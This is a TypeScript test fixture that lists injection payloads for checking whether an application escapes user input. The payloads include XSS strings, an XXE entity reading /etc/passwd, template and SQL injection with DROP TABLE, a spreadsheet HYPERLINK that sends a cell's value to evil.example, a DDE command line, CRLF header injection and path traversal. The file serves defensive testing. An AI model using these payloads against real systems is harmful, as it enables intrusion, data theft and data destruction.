/**
 * What people might type to have it run. Elements these would make carry the attribute
 * `data-injected`, and scripts call `alert` with the payload's number: a browser that meets either
 * has been had.
 */
export type Payload = { attacks: string; text: string }

export const payloads: readonly Payload[] = [
  { attacks: 'text of a page', text: '<script data-injected>alert(1)</script>' },
  { attacks: 'text: an element that fails', text: '<img data-injected src=x onerror=alert(2)>' },
  { attacks: 'filters that wait for a space', text: '<svg/data-injected/onload=alert(3)><b/x' },
  {
    attacks: 'an attribute in double quotes',
    text: '" autofocus onfocus="alert(4)" data-injected="',
  },
  { attacks: 'one in single quotes', text: "' autofocus onfocus='alert(5)' data-injected='" },
  {
    attacks: 'one in backticks or none',
    text: '`x onclick=alert(6) data-injected y=`${alert(6)}`',
  },
  { attacks: 'addresses: a scheme that runs', text: 'javascript:alert(7)//https://evil.example/' },
  {
    attacks: 'addresses: a page within',
    text: 'data:text/html,<script data-injected>alert(8)</script>',
  },
  {
    attacks: 'elements that hold plain text',
    text: '</title></style></textarea></noscript></xmp><img data-injected src=x onerror=alert(9)>',
  },
  { attacks: 'JSON-LD', text: '</script><script data-injected>alert(10)</script><!--<script>' },
  { attacks: 'comments', text: '--!><img data-injected src=x onerror=alert(11)><!--' },
  { attacks: 'CDATA of feeds', text: ']]><script data-injected>alert(12)</script><![CDATA[' },
  {
    attacks: 'readers of XML: an entity',
    text: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><b data-injected>&e;</b>',
  },
  {
    attacks: 'letters and pages read as Markdown',
    text: '[x](javascript:alert(14)) ![y](z"onerror="alert(14)) <javascript:alert(14)>',
  },
  {
    attacks: 'ICU messages',
    text: "{0} {name} {n, plural, one {#} other {<b data-injected>#</b>}} '{",
  },
  {
    attacks: 'templates',
    text: "{{constructor.constructor('alert(16)')()}} ${alert(16)} #{7*7} <%= 7*7 %>",
  },
  {
    attacks: 'what is decoded twice',
    text: '&lt;img data-injected src=x onerror=alert(17)&gt; &#60;b&#62; %3Cb%3E \\u003cb\\u003e',
  },
  {
    attacks: 'what is parsed twice',
    text: '<math><mtext><table><mglyph><style><!--</style><img data-injected src=x onerror=alert(18)>',
  },
  {
    attacks: 'style sheets',
    text: '</style><style data-injected>*{width:expression(alert(19))}</style>;}*{display:none}',
  },
  {
    attacks: 'where a page leads',
    text: '<meta data-injected http-equiv=refresh content="0;url=//evil.example"><base href=//evil>',
  },
  { attacks: 'spreadsheets', text: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
  {
    attacks: 'spreadsheets: programs, and cells parted by other signs',
    text: "@SUM(1)*cmd|' /C calc'!A0;+1+1;-1+1\t=1+1",
  },
  { attacks: 'spreadsheets: beginnings that are not seen', text: '\t=1+1\r\n\r=1+1\n+1+1\t' },
  {
    attacks: 'calendars, letters and answers: a line that begins another thing',
    text: 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nBcc: a@evil.example\r\n\r\n<b data-injected>',
  },
  {
    attacks: 'scripts: ends of lines that only they know',
    text: 'x\u2028\';alert(25)//\u2029";alert(25)//\u0085<b data-injected>',
  },
  {
    attacks: 'the eye: letters turned around or not seen',
    text: '\u202egpj.exe\u2066\u200b<b data-injected>\u2069\u00ad\ufeff.\u202c',
  },
  { attacks: 'objects used as dictionaries', text: '__proto__' },
  {
    attacks: 'readers of bytes: NUL, escape, half a character',
    text: 'x\u0000y\u0007\u001b[31m\ud800<b data-injected>\udfff\ufffe',
  },
  { attacks: 'SQL and what searches', text: `'); DROP TABLE users;--" OR "1"="1' NEAR(* AND ^x` },
  {
    attacks: 'file names, and logs of requests',
    text: '../../..\\..\\etc/passwd%00%0d%0a{"level":60,"msg":"x"}<b data-injected>',
  },
]

/** As a form sends it, whoever typed it: no half characters, and one kind of line end. */
export const asTyped = (text: string): string =>
  Buffer.from(text).toString().replaceAll('\r\n', '\n')

/** What a field makes of it: nothing at its edges, and no NUL. */
export const asKept = (text: string): string => asTyped(text).replaceAll('\0', '\ufffd').trim()
